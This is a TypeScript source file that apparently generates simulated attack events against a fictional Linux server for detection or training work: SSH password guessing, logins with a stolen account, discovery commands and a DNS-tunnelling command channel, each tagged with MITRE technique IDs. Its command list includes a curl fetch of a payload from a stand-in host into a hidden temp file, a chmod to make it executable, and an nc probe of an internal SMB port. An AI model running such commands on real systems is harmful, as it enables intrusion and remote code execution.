import { DAY, MINUTE, SECOND } from '../../calendar.ts';
import { atWork, workdays } from '../operator.ts';
import { did, type Other, tried } from './other.ts';

/** The Linux server: passwords guessed over SSH, a look around, and orders fetched through names in the DNS. */
export function linux({ world, script, crew, from, to, exit, cast }: Other): void {
  const random = world.random('second/linux');
  const host = world.servers.linux;
  const { account } = cast.second.user;
  const guess = atWork(crew, random, workdays(crew, random, from, from + 9 * DAY, 100)[0] ?? from, 120);
  const address = exit(guess);
  const used = { addresses: [address] };
  const names = ['root', 'admin', 'test', 'oracle', 'backup', 'git', account.name, account.name];
  names.forEach((name, i) => {
    const ms = guess + i * random.int(4, 30) * SECOND;
    const told = {
      phase: 'initial-access',
      technique: 'T1110.001',
      what: `SSH password tried for ${name}`,
      used,
    } as const;
    const act = tried({ ...told, hosts: [host.name], accounts: name === account.name ? [name] : [] });
    script.at(ms, (v) => v.ssh({ ms, host, account: name, from: address, ok: false, method: 'password', act }));
  });
  let first = true;
  for (const day of [guess, ...workdays(crew, random, from + 2 * DAY, to, 12)]) {
    const ms = first ? guess + 20 * MINUTE : atWork(crew, random, day, 60);
    first = false;
    const line = exit(ms);
    const commands = random.some(COMMANDS, random.int(2, 5));
    const both = { hosts: [host.name], accounts: [account.name] };
    script.at(ms, (v) => {
      const what = `SSH as ${account.name} from the rented server ${line}`;
      v.ssh({
        ...{ ms, host, account, from: line, ok: true, method: 'password', seconds: 1800 },
        act: did({ ...both, phase: 'initial-access', technique: 'T1078', what, used: { addresses: [line] } }),
      });
      commands.forEach((argv, i) => {
        const act = did({ ...both, phase: 'discovery', technique: 'T1059.004', what: argv.join(' ') });
        v.exec({ ms: ms + (i + 1) * 45 * SECOND, host, account, argv, act });
      });
    });
  }
  tunnel({ world, script, from: guess + 6 * DAY });
}

const COMMANDS = [
  ['uname', '-a'],
  ['cat', '/etc/hosts'],
  ['curl', '-s', '-o', '/tmp/.x', 'http://dl-pool.example/x'],
  ['chmod', '+x', '/tmp/.x'],
  ['ps', 'aux'],
  ['crontab', '-l'],
  ['nc', '-zv', '10.20.10.30', '445'],
];

/** Long names under one domain, every fifteen minutes for two or three weeks. */
function tunnel({ world, script, from }: Pick<Other, 'world' | 'script' | 'from'>): void {
  const random = world.random('second/tunnel');
  const host = world.servers.linux;
  const domain = `ns.${random.letters(6).toLowerCase()}.example`;
  const end = from + random.int(13, 22) * DAY;
  for (let at = from; at < end; at += 15 * MINUTE) {
    const ms = at + random.int(0, 90) * SECOND;
    const name = `${random.hex(random.int(36, 60))}.${random.hex(8)}.${domain}`;
    const answer = random.letters(random.int(40, 120));
    const act = did({
      ...{
        phase: 'command-and-control',
        technique: 'T1071.004',
        hosts: [host.name],
        what: 'Orders travel in names of the DNS',
      },
      used: { domains: [domain] },
    });
    script.at(ms, (v) => v.dnsQuery({ ms, from: host, name, type: 'TXT', answer, act }));
  }
}
